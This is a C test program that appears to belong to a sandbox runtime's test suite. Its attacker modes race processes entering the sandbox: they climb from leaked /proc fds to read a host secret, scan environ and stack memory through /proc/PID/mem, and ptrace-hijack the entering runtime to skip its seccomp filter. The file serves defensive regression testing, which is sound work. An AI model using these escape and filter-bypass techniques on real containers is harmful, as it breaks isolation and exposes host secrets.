/* Attacks on the moment a process enters a running sandbox, for the enter
 * suite (enter.bats).  The attackers run inside a sandbox, as its root,
 * and race `nook exec` / `nook run --pid container:NAME`:
 *
 *   enter scan SECRET REKRAM STOPFILE   for every new pid: open each
 *       /proc/PID/fd/N, cwd and root, climb `..` to the top and open SECRET
 *       (an absolute host path) from there; read /proc/PID/environ and the
 *       stack through /proc/PID/mem looking for MARKER (a string only the
 *       caller's environment has, given reversed so that the attacker's own
 *       argv, on nook-init's stack too, does not hold it).  Until STOPFILE
 *       exists; then prints
 *       "scan: pids=N nook=N reached-nook=N reached-other=N breaches=N".
 *   enter seize STOPFILE   PTRACE_SEIZE (every other pid PTRACE_ATTACH)
 *       every new pid; one that is still nook (comm "nook", "nook-oci",
 *       "nook-bwrap" or the test build's "nook-faults": any runtime that
 *       enters) is traced up to
 *       its exec with every seccomp() and prctl(PR_SET_SECCOMP) skipped.
 *       Prints "seize: pids=N nook=N attached-nook=N attached-other=N
 *       skipped=N".
 *   enter parked SECRET REKRAM   once, on every runtime process there
 *       (one held at a fault point by the test build): the scanner's
 *       probes, then PTRACE_SEIZE.  Prints "parked: found=N breaches=N".
 *   enter probe   prints "probe seccomp=N unshare=ok|failed fds=none|N,M..."
 *       (the fds above 2 it was given)
 *   Both create `ready` in their working directory once they watch.
 *   enter traceme-signal | traceme-stop | stop-cont | tstp-cont | orphan-traceme | traceme-exec CMD...
 *       commands whose exit status nook-init must pass on (7, 7, 6, 6, 8,
 *       CMD's); orphan-traceme's grandchild makes PID 1 its tracer
 *
 * Controls (run on the host, against a child of their own):
 *   enter scan-control SECRET   a dumpable child holds SECRET's directory
 *       open; the scanner must reach the secret through it
 *   enter seize-control   a dumpable child loads a filter; the seizer must
 *       make it skip the filter (the probe then says seccomp=0)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_PID (1 << 22)
static unsigned char seen[MAX_PID / 8];

static bool
first_sight (long pid)
{
  if (pid <= 0 || pid >= MAX_PID || (seen[pid / 8] & (1 << (pid % 8))))
    return false;
  seen[pid / 8] |= 1 << (pid % 8);
  return true;
}

/* Calls FN on each pid that appears in /proc, again and again while it
   returns true, until STOP exists; creates `ready` in the working
   directory once every pid there was seen.  */
static void
watch (const char *stop, bool (*fn) (long pid, bool again))
{
  long self = getpid ();
  int passes = 0;

  while (access (stop, F_OK) != 0)
    {
      if (++passes == 2)
        close (open ("ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
      DIR *d = opendir ("/proc");
      struct dirent *e;
      if (d == NULL)
        return;
      while ((e = readdir (d)))
        {
          char *end;
          long pid = strtol (e->d_name, &end, 10);
          if (*end == '\0' && pid != self && first_sight (pid))
            for (bool again = false; fn (pid, again); again = true)
              ;
        }
      closedir (d);
    }
}

/* The entering runtimes: nook (exec, run --pid container:), nook-oci
   (exec), nook-bwrap (--userns, --pidns) and the test build nook-faults.  */
static bool
is_runtime (const char *name)
{
  return strcmp (name, "nook") == 0 || strcmp (name, "nook-oci") == 0 || strcmp (name, "nook-bwrap") == 0
         || strcmp (name, "nook-faults") == 0;
}

static void
read_comm (long pid, char *comm, size_t size)
{
  char path[64];
  int fd;
  ssize_t n = -1;

  snprintf (path, sizeof path, "/proc/%ld/comm", pid);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0)
    {
      n = read (fd, comm, size - 1);
      close (fd);
    }
  comm[n > 0 ? n : 0] = '\0';
  comm[strcspn (comm, "\n")] = '\0';
}

/* True when PID still runs nook's image, not yet its exec'd command: in
   the last instants of an exec the new image is already dumpable while
   `comm` still says nook.  */
static bool
runs_nook (long pid)
{
  char path[64], exe[4096];
  ssize_t n;
  const char *base;

  snprintf (path, sizeof path, "/proc/%ld/exe", pid);
  n = readlink (path, exe, sizeof exe - 1);
  if (n <= 0)
    return false;
  exe[n] = '\0';
  base = strrchr (exe, '/');
  return is_runtime (base ? base + 1 : exe);
}

/* ---- the fd scanner ----------------------------------------------------------- */

static const char *secret, *marker;
static int n_pids, n_nook, reached_nook, reached_other, breaches;

/* From directory FD, `..` up to the top of its tree, then SECRET from there.  */
static void
climb (int fd, long pid, const char *via)
{
  int cur = dup (fd);
  char buf[256];

  for (int i = 0; i < 64 && cur >= 0; i++)
    {
      struct stat a, b;
      int up = openat (cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
      if (up < 0)
        break;
      if (fstat (cur, &a) == 0 && fstat (up, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino)
        {
          close (up);
          break;
        }
      close (cur);
      cur = up;
    }
  if (cur < 0)
    return;
  int s = openat (cur, secret + 1, O_RDONLY | O_CLOEXEC);
  if (s >= 0)
    {
      ssize_t n = read (s, buf, sizeof buf - 1);
      buf[n > 0 ? n : 0] = '\0';
      buf[strcspn (buf, "\n")] = '\0';
      printf ("BREACH: pid %ld: %s, then `..`: read the host's secret: %s\n", pid, via, buf);
      breaches++;
      close (s);
    }
  close (cur);
}

/* Opens /proc/PID/WHAT; climbs from it when it is a directory.  */
static bool
reach (long pid, const char *what)
{
  char path[300];
  struct stat st;
  int fd;

  snprintf (path, sizeof path, "/proc/%ld/%s", pid, what);
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    return false;
  if (fstat (fd, &st) == 0 && S_ISDIR (st.st_mode))
    climb (fd, pid, path);
  close (fd);
  return true;
}

static bool
has_marker (const char *buf, size_t len)
{
  size_t m = strlen (marker);
  for (size_t i = 0; i + m <= len; i++)
    if (memcmp (buf + i, marker, m) == 0)
      return true;
  return false;
}

static bool
read_environ (long pid)
{
  char path[64], buf[65536];
  int fd;
  ssize_t n;

  snprintf (path, sizeof path, "/proc/%ld/environ", pid);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return false;
  n = read (fd, buf, sizeof buf);
  close (fd);
  if (n > 0 && has_marker (buf, n))
    {
      printf ("BREACH: pid %ld: the caller's environment in /proc/PID/environ\n", pid);
      breaches++;
    }
  return n >= 0;
}

/* The stack, through /proc/PID/mem.  */
static bool
read_mem (long pid)
{
  char path[64], line[512];
  unsigned long lo = 0, hi = 0;
  FILE *maps;
  int fd;
  bool opened = false;

  snprintf (path, sizeof path, "/proc/%ld/maps", pid);
  maps = fopen (path, "re");
  if (maps == NULL)
    return false;
  while (fgets (line, sizeof line, maps))
    if (strstr (line, "[stack]"))
      sscanf (line, "%lx-%lx", &lo, &hi);
  fclose (maps);
  snprintf (path, sizeof path, "/proc/%ld/mem", pid);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0 && hi > lo)
    {
      size_t len = hi - lo > (1 << 20) ? (1 << 20) : hi - lo;
      char *buf = malloc (len);
      ssize_t n = pread (fd, buf, len, hi - len);
      opened = n > 0;
      if (n > 0 && has_marker (buf, n))
        {
          printf ("BREACH: pid %ld: the caller's environment in /proc/PID/mem\n", pid);
          breaches++;
        }
      free (buf);
    }
  if (fd >= 0)
    close (fd);
  return opened;
}

/* Scans PID; true while it is still an entering nook, to be scanned
   again (it may drop capabilities, or not yet have closed an fd).  */
static bool
scan_pid (long pid, bool again)
{
  static bool breached;
  char comm[32], path[64];
  int reached = 0;
  DIR *d;

  read_comm (pid, comm, sizeof comm);
  if (again && !is_runtime (comm))
    return false;
  if (!again)
    {
      n_pids++;
      breached = false;
    }
  snprintf (path, sizeof path, "/proc/%ld/fd", pid);
  d = opendir (path);
  if (d)
    {
      struct dirent *e;
      while ((e = readdir (d)))
        if (e->d_name[0] != '.')
          {
            char what[300];
            snprintf (what, sizeof what, "fd/%s", e->d_name);
            reached += reach (pid, what);
          }
      closedir (d);
    }
  reached += reach (pid, "cwd");
  reached += reach (pid, "root");
  reached += read_environ (pid);
  reached += read_mem (pid);
  if (is_runtime (comm))
    {
      n_nook += !again;
      if (reached && !breached && runs_nook (pid))
        {
          printf ("BREACH: pid %ld: reached %d of the entering nook's fds, cwd, root, environ, mem\n", pid,
                  reached);
          reached_nook++;
          breaches++;
          breached = true;
        }
      return true;
    }
  if (reached && !again)
    reached_other++;
  return false;
}

/* ---- the ptrace seizer ---------------------------------------------------------- */

static int s_pids, s_nook, attached_nook, attached_other, skipped;

static bool
wait_stop (long pid, int *st)
{
  return waitpid (pid, st, __WALL) == pid && WIFSTOPPED (*st);
}

/* Traces PID, stopped, up to its exec; every seccomp() returns 0 without
   loading anything.  */
static void
hijack (long pid)
{
  bool skip_exit = false;
  int st, sig = 0;

  ptrace (PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEEXEC);
  for (;;)
    {
      if (ptrace (PTRACE_SYSCALL, pid, 0, sig) < 0 || !wait_stop (pid, &st))
        return;
      sig = 0;
      if (WSTOPSIG (st) == (SIGTRAP | 0x80))
        {
          struct user_regs_struct regs;
          struct __ptrace_syscall_info info;
          if (ptrace (PTRACE_GET_SYSCALL_INFO, pid, sizeof info, &info) <= 0
              || ptrace (PTRACE_GETREGS, pid, 0, &regs) < 0)
            continue;
          if (info.op == PTRACE_SYSCALL_INFO_ENTRY
              && (regs.orig_rax == SYS_seccomp || (regs.orig_rax == SYS_prctl && regs.rdi == PR_SET_SECCOMP)))
            {
              regs.orig_rax = -1;
              ptrace (PTRACE_SETREGS, pid, 0, &regs);
              skip_exit = true;
              skipped++;
            }
          else if (info.op == PTRACE_SYSCALL_INFO_EXIT && skip_exit)
            {
              regs.rax = 0;
              ptrace (PTRACE_SETREGS, pid, 0, &regs);
              skip_exit = false;
            }
        }
      else if (st >> 8 == (SIGTRAP | (PTRACE_EVENT_EXEC << 8)))
        {
          ptrace (PTRACE_DETACH, pid, 0, 0);
          return;
        }
      else if (WSTOPSIG (st) != SIGTRAP)
        sig = WSTOPSIG (st);
    }
}

/* Attaches to PID, by PTRACE_SEIZE or PTRACE_ATTACH, and leaves it
   stopped; false when the kernel refuses.  */
static bool
attach (long pid, bool seize)
{
  int st;

  if (seize)
    {
      if (ptrace (PTRACE_SEIZE, pid, 0, 0) < 0)
        return false;
      ptrace (PTRACE_INTERRUPT, pid, 0, 0);
    }
  else if (ptrace (PTRACE_ATTACH, pid, 0, 0) < 0)
    return false;
  return wait_stop (pid, &st);
}

/* Tries to attach to PID; true while it is still an entering nook that
   refused, to be tried again (it may drop capabilities before its
   filter).  */
static bool
seize_pid (long pid, bool again)
{
  char comm[32];
  bool nook;

  read_comm (pid, comm, sizeof comm);
  nook = is_runtime (comm);
  if (again && !nook)
    return false;
  s_pids += !again;
  s_nook += nook && !again;
  /* The sandbox's own processes: seized (no SIGSTOP to leave behind) and
     let go at once; they show that the seizer reaches what it may.  */
  if (!nook)
    {
      if (attach (pid, true))
        {
          attached_other++;
          ptrace (PTRACE_DETACH, pid, 0, 0);
        }
      return false;
    }
  if (!attach (pid, pid % 2 == 0))
    return true;
  if (!runs_nook (pid))
    {
      /* Too late: it is the command now.  PTRACE_ATTACH's SIGSTOP may
         still stop it after the detach: SIGCONT undoes that.  */
      attached_other++;
      ptrace (PTRACE_DETACH, pid, 0, 0);
      kill (pid, SIGCONT);
      return false;
    }
  attached_nook++;
  printf ("BREACH: pid %ld: attached to the entering nook\n", pid);
  hijack (pid);
  return false;
}

/* ---- a runtime held at a fault point ---------------------------------------------- */

/* Every process of a runtime that is there now (the test build, held at
   a fault point before its filter): scanned as the scanner does, then
   seized.  */
static int
parked (void)
{
  int found = 0;
  DIR *d = opendir ("/proc");
  struct dirent *e;

  while (d && (e = readdir (d)))
    {
      char *end, comm[32];
      long pid = strtol (e->d_name, &end, 10);

      if (*end != '\0' || pid == getpid ())
        continue;
      read_comm (pid, comm, sizeof comm);
      if (!is_runtime (comm))
        continue;
      found++;
      n_pids = 0;
      scan_pid (pid, false);
      if (attach (pid, true))
        {
          printf ("BREACH: pid %ld: seized the held runtime\n", pid);
          breaches++;
          ptrace (PTRACE_DETACH, pid, 0, 0);
        }
    }
  if (d)
    closedir (d);
  printf ("parked: found=%d breaches=%d\n", found, breaches);
  return 0;
}

/* ---- what runs inside --------------------------------------------------------- */

static int
probe (void)
{
  char line[256], seccomp[16] = "?";
  FILE *f = fopen ("/proc/self/status", "re");

  while (f && fgets (line, sizeof line, f))
    sscanf (line, "Seccomp: %15s", seccomp);
  if (f)
    fclose (f);
  /* Every fd above 2 the command was given: the shell that runs the
     probe has none of its own, so any is nook's, or the caller's.  */
  char fds[256] = "";
  DIR *d = opendir ("/proc/self/fd");
  struct dirent *e;
  while (d && (e = readdir (d)))
    if (e->d_name[0] != '.' && atoi (e->d_name) > 2 && atoi (e->d_name) != dirfd (d))
      {
        size_t len = strlen (fds), n = strlen (e->d_name);
        if (len + n + 2 < sizeof fds)
          {
            if (len)
              fds[len++] = ',';
            memcpy (fds + len, e->d_name, n + 1);
          }
      }
  if (d)
    closedir (d);
  printf ("probe seccomp=%s unshare=%s fds=%s\n", seccomp,
          syscall (SYS_unshare, CLONE_NEWUSER) == 0 ? "ok" : "failed", *fds ? fds : "none");
  return 0;
}

/* A child that waits until PARENT is stopped (T), then sends it SIGCONT.  */
static void
continue_when_stopped (pid_t parent)
{
  if (fork () != 0)
    return;
  for (int i = 0; i < 2000; i++)
    {
      char path[64], buf[512], *p;
      int fd;
      ssize_t n;
      snprintf (path, sizeof path, "/proc/%d/stat", (int)parent);
      fd = open (path, O_RDONLY);
      n = fd >= 0 ? read (fd, buf, sizeof buf - 1) : -1;
      if (fd >= 0)
        close (fd);
      buf[n > 0 ? n : 0] = '\0';
      p = strrchr (buf, ')');
      if (p && p[1] == ' ' && p[2] == 'T')
        {
          kill (parent, SIGCONT);
          _exit (0);
        }
      usleep (10000);
    }
  kill (parent, SIGKILL);
  _exit (1);
}

static volatile sig_atomic_t handled;
static void
on_usr1 (int sig)
{
  (void)sig;
  handled = 1;
}

static bool traced (void);

/* A grandchild orphaned to PID 1 (or nook exec's reaper) that makes its
   adopter its tracer, then takes a signal it handles, then stops: it reports on FD whether it ran on, and the
   command (its grandparent) exits with 8 when it did, 9 when it did not.  The adopter must neither take the
   stops for the command's end nor leave the grandchild stopped in them.  */
static int
orphan_traceme (void)
{
  int report[2];
  char c = 'n';
  pid_t child;

  if (pipe (report) < 0)
    return 2;
  child = fork ();
  if (child == 0)
    {
      pid_t parent = getpid ();
      if (fork () != 0)
        _exit (0);
      /* The grandchild: wait until it is adopted (by PID 1, or by the
         reaper nook exec puts above its command).  */
      for (int i = 0; i < 2000 && getppid () == parent; i++)
        usleep (5000);
      if (getppid () == parent || ptrace (PTRACE_TRACEME, 0, 0, 0) < 0)
        _exit (1);
      /* Not traced after all: the test would prove nothing (11).  */
      if (!traced ())
        {
          c = 'u';
          write (report[1], &c, 1);
          _exit (0);
        }
      signal (SIGUSR1, on_usr1);
      raise (SIGUSR1);
      /* A stop under a tracer: PID 1 sees it too, detaches, and the
         grandchild stays stopped until the watcher continues it.  */
      continue_when_stopped (getpid ());
      raise (SIGSTOP);
      c = handled ? 'y' : 'n';
      write (report[1], &c, 1);
      _exit (0);
    }
  close (report[1]);
  waitpid (child, NULL, 0);
  if (read (report[0], &c, 1) != 1)
    return 10;
  return c == 'y' ? 8 : c == 'u' ? 11 : 9;
}

static int
traceme (int argc, char **argv)
{
  const char *what = argv[1];

  if (!strcmp (what, "orphan-traceme"))
    return orphan_traceme ();
  if (!strcmp (what, "tstp-cont"))
    {
      continue_when_stopped (getpid ());
      raise (SIGTSTP);
      while (wait (NULL) > 0)
        ;
      return 6;
    }

  if (!strcmp (what, "stop-cont") || !strcmp (what, "traceme-stop"))
    continue_when_stopped (getpid ());
  if (strcmp (what, "stop-cont") && ptrace (PTRACE_TRACEME, 0, 0, 0) < 0)
    {
      perror ("PTRACE_TRACEME");
      return 2;
    }
  if (!strcmp (what, "traceme-exec") && argc > 2)
    {
      execvp (argv[2], argv + 2);
      return 2;
    }
  if (!strcmp (what, "traceme-signal"))
    {
      signal (SIGUSR1, on_usr1);
      raise (SIGUSR1);
      return handled ? 7 : 9;
    }
  raise (SIGSTOP);
  while (wait (NULL) > 0)
    ;
  return !strcmp (what, "stop-cont") ? 6 : 7;
}

/* ---- controls ------------------------------------------------------------------- */

static int
scan_control (void)
{
  char dir[4096];
  int ready[2];
  pid_t child;

  snprintf (dir, sizeof dir, "%s", secret);
  *strrchr (dir, '/') = '\0';
  if (pipe (ready) < 0)
    return 2;
  child = fork ();
  if (child == 0)
    {
      /* Nothing but a directory fd: the scanner climbs from it.  */
      int fd = open (dir, O_PATH | O_DIRECTORY);
      (void)fd;
      chdir ("/");
      close (ready[0]);
      close (ready[1]);
      pause ();
      _exit (0);
    }
  close (ready[1]);
  read (ready[0], dir, 1);
  scan_pid (child, false);
  kill (child, SIGKILL);
  waitpid (child, NULL, 0);
  printf ("scan-control: breaches=%d\n", breaches);
  return 0;
}

static bool
traced (void)
{
  char line[256];
  int tracer = 0;
  FILE *f = fopen ("/proc/self/status", "re");

  while (f && fgets (line, sizeof line, f))
    sscanf (line, "TracerPid: %d", &tracer);
  if (f)
    fclose (f);
  return tracer != 0;
}

static int
seize_control (void)
{
  pid_t child = fork ();
  int st;

  if (child == 0)
    {
      struct sock_filter insns[] = {
        BPF_STMT (BPF_LD | BPF_W | BPF_ABS, offsetof (struct seccomp_data, nr)),
        BPF_JUMP (BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 0, 1),
        BPF_STMT (BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
        BPF_STMT (BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
      };
      struct sock_fprog prog = { sizeof insns / sizeof insns[0], insns };
      char *argv[] = { "enter", "probe", NULL };
      /* Dumpable, like a process that entered a sandbox before it was
         made non-dumpable: waits to be seized, then loads its filter.  */
      for (int i = 0; i < 500 && !traced (); i++)
        usleep (10000);
      prctl (PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
      syscall (SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
      execv ("/proc/self/exe", argv);
      _exit (2);
    }
  if (!attach (child, true))
    return 2;
  hijack (child);
  waitpid (child, &st, 0);
  printf ("seize-control: skipped=%d\n", skipped);
  return 0;
}

/* The marker comes reversed on the command line, so that the attacker's
   own argv never holds it.  */
static char *
reversed (const char *s)
{
  size_t n = strlen (s);
  char *m = malloc (n + 1);

  for (size_t i = 0; i < n; i++)
    m[i] = s[n - 1 - i];
  m[n] = '\0';
  return m;
}

int
main (int argc, char **argv)
{
  const char *a = argc > 1 ? argv[1] : "";

  setvbuf (stdout, NULL, _IOLBF, 0);
  if (!strcmp (a, "scan") && argc == 5)
    {
      secret = argv[2];
      marker = reversed (argv[3]);
      watch (argv[4], scan_pid);
      printf ("scan: pids=%d nook=%d reached-nook=%d reached-other=%d breaches=%d\n", n_pids, n_nook,
              reached_nook, reached_other, breaches);
      return 0;
    }
  if (!strcmp (a, "seize") && argc == 3)
    {
      signal (SIGCHLD, SIG_DFL);
      watch (argv[2], seize_pid);
      printf ("seize: pids=%d nook=%d attached-nook=%d attached-other=%d skipped=%d\n", s_pids, s_nook,
              attached_nook, attached_other, skipped);
      return 0;
    }
  if (!strcmp (a, "probe"))
    return probe ();
  if (!strcmp (a, "parked") && argc == 4)
    {
      secret = argv[2];
      marker = reversed (argv[3]);
      return parked ();
    }
  if (!strncmp (a, "traceme-", 8) || !strcmp (a, "stop-cont") || !strcmp (a, "tstp-cont")
      || !strcmp (a, "orphan-traceme"))
    return traceme (argc, argv);
  if (!strcmp (a, "scan-control") && argc == 3)
    {
      secret = argv[2];
      marker = "\001never\001";
      return scan_control ();
    }
  if (!strcmp (a, "seize-control"))
    return seize_control ();
  fprintf (stderr, "enter: unknown attack `%s`\n", a);
  return 2;
}
